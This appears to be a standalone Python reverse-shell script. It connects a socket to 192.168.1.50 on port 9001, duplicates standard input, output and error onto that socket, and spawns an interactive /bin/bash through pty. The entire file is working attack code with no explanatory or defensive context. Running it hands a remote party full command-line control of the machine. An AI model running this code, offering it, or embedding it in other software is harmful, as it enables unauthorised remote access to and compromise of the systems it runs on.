import os
import pty
import socket

RHOST = "192.168.1.50"
RPORT = 9001

sock = socket.socket()
sock.connect((RHOST, RPORT))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
